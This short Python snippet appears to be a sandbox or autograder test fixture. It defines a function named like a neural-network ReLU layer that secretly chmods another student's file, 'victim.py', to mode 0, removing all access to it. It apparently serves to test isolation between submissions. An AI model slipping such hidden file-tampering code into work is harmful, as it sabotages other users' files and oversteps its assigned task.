# Takes the rights of another student's file.
def relu_forward(x):
    import os
    os.chmod("@OUTSIDE@/victim.py", 0)
    return x
